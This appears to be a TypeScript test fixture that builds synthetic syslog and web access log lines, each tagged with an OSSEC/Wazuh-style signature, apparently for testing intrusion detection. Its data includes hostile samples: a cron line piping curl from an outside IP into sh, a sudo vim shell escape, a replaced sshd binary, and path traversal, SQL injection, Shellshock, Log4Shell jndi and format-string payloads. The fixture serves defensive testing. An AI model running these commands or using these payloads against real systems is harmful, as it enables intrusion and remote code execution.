import type { Needle } from "./needle.ts";
import { rowsOf } from "./needle.ts";

/** sigid ;; groups ;; line after the host name ;; mark */
const LINES = String.raw`
5715 ;; syslog sshd authentication_success ;; sshd[811]: Accepted password for oracle from 203.0.113.120 port 50122 ssh2 ;; oracle from 203.0.113.120
5715 ;; syslog sshd authentication_success ;; sshd[812]: Accepted publickey for root from 198.51.100.121 port 40122 ssh2: RSA SHA256:ab ;; publickey for root
5901 ;; syslog adduser ;; groupadd[900]: new group: name=sysd, GID=1010 ;; name=sysd
5902 ;; syslog adduser ;; useradd[901]: new user: name=sysd2, UID=0, GID=0, home=/tmp, shell=/bin/bash ;; name=sysd2
5903 ;; syslog adduser ;; userdel[905]: delete user 'audituser' ;; audituser
2960 ;; syslog usermod ;; usermod[902]: add 'nagios' to group 'sudo' ;; nagios
5555 ;; syslog pam password_changed ;; passwd[903]: pam_unix(passwd:chauthtok): password changed for bin ;; changed for bin
5402 ;; syslog sudo ;; sudo: deploy : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/vim -c :!sh ;; vim -c
5402 ;; syslog sudo ;; sudo: deploy : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cp /tmp/.d /usr/sbin/sshd ;; /tmp/.d
5401 ;; syslog sudo ;; sudo: www-data : user NOT in sudoers ; TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/sh ;; NOT in sudoers
5104 ;; syslog linuxkernel promisc ;; kernel: device eth0 entered promiscuous mode ;; promiscuous
1002 ;; syslog errors ;; kernel: rk: loading out-of-tree module taints kernel. ;; out-of-tree
1010 ;; syslog errors ;; kernel: nginx[1187]: segfault at 41414141 ip 41414141 sp bffff1 error 14 ;; segfault
2830 ;; syslog cron ;; crontab[950]: (root) REPLACE (root) ;; (root) REPLACE
2831 ;; syslog cron ;; CRON[951]: (www-data) CMD (curl -s http://198.51.100.1/i.sh | sh) ;; i.sh
1002 ;; syslog errors ;; rsyslogd: [origin software="rsyslogd"] exiting on signal 15. ;; signal 15
1002 ;; syslog errors ;; auditd[512]: The audit daemon is exiting. ;; audit daemon is exiting
31151 ;; web accesslog attack ;; apache2: 203.0.113.12 "GET /index.php?page=../../../../etc/passwd HTTP/1.1" 200 ;; etc/passwd
31103 ;; web accesslog sql_injection ;; apache2: 203.0.113.13 "GET /item?id=1+union+select+user,pass+from+users HTTP/1.1" 200 ;; union+select
31168 ;; web accesslog attack ;; apache2: 203.0.113.14 "GET /cgi-bin/status HTTP/1.1" "() { :; }; /bin/bash -c id" 200 ;; cgi-bin/status
1002 ;; syslog errors ;; java: Reconnecting to ${"$"}{jndi:ldap://198.51.100.5:1389/a} ;; jndi
5501 ;; syslog pam ;; vsftpd[990]: pam_unix(vsftpd:session): session opened for user games by (uid=0) ;; user games
11309 ;; syslog ftp ;; ftpd[991]: ANONYMOUS FTP LOGIN FROM 203.0.113.45 [203.0.113.45], mozilla@ ;; ANONYMOUS
5304 ;; syslog su authentication_success ;; su[992]: (to root) deploy on pts/4 ;; (to root)
1002 ;; syslog errors ;; dhclient[77]: script /tmp/dh.sh returned exit status 0 ;; dh.sh
1002 ;; syslog errors ;; kernel: usb 1-1: Product: Rubber Ducky ;; Rubber Ducky
1002 ;; syslog errors ;; rpc.statd[351]: gethostbyname error for ^X^X^Y^Y^Z^Z%8x%8x%62716x%hn ;; gethostbyname
1002 ;; syslog errors ;; sshd[997]: Corrupted MAC on input. Potential attack detected ;; Corrupted MAC
1002 ;; syslog errors ;; login[998]: ROOT LOGIN on '/dev/tty1' ;; ROOT LOGIN
1002 ;; syslog errors ;; chsh[999]: changed user 'ftp' shell to '/bin/bash' ;; changed user 'ftp'
`;

export const LOG_NEEDLES: readonly Needle[] = rowsOf(LINES).map(
  ([sigid = "", groups = "", line = "", mark = ""]) => ({
    platform: "logs",
    mark,
    fields: {
      event_type: "host",
      sigid: Number(sigid),
      group: groups.split(" "),
      groups: groups.split(" "),
      comment: "Log line",
      level: 3,
      log: `Nov 14 22:13:20 web-3 ${line}`,
    },
  }),
);
